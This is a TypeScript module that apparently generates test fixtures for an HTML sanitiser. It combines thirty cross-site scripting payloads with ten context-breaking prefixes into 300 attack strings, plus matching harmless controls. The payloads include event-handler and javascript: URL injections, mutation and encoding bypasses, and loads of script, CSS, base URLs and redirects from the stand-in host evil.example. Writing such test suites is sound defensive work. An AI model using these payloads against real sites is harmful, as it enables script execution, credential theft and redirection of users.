const RUN = 'alert(1)';
/** What runs a script, or draws what is not ours, where it becomes markup. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<form action="//evil.example"><button>x</button></form>`,
  `<button formaction="//evil.example">x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<math><mtext><mglyph><style><img src=x onerror=${RUN}></style></mglyph></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<video><source onerror=${RUN}></video>`,
  `<xss id=x tabindex=1 onfocusin=${RUN}>`,
  `<!--><script>${RUN}</script-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `＜script＞${RUN}＜/script＞`,
];
/** What ends the place that it stands in. */
const BEFORE = ['', '"', "'", '">', "'>", '</textarea>', '</title>', '</option></select>', '</script>', '-->'];

/** Three hundred strings that attack a page: each markup after each end of a place. */
export const EVIL: readonly string[] = MARKUP.flatMap((markup, i) =>
  BEFORE.map((before, n) => `${before}${markup}${i}-${n}`),
);

/** As many that attack nothing. */
export const HARMLESS: readonly string[] = EVIL.map((_, i) => `无害${i}`);
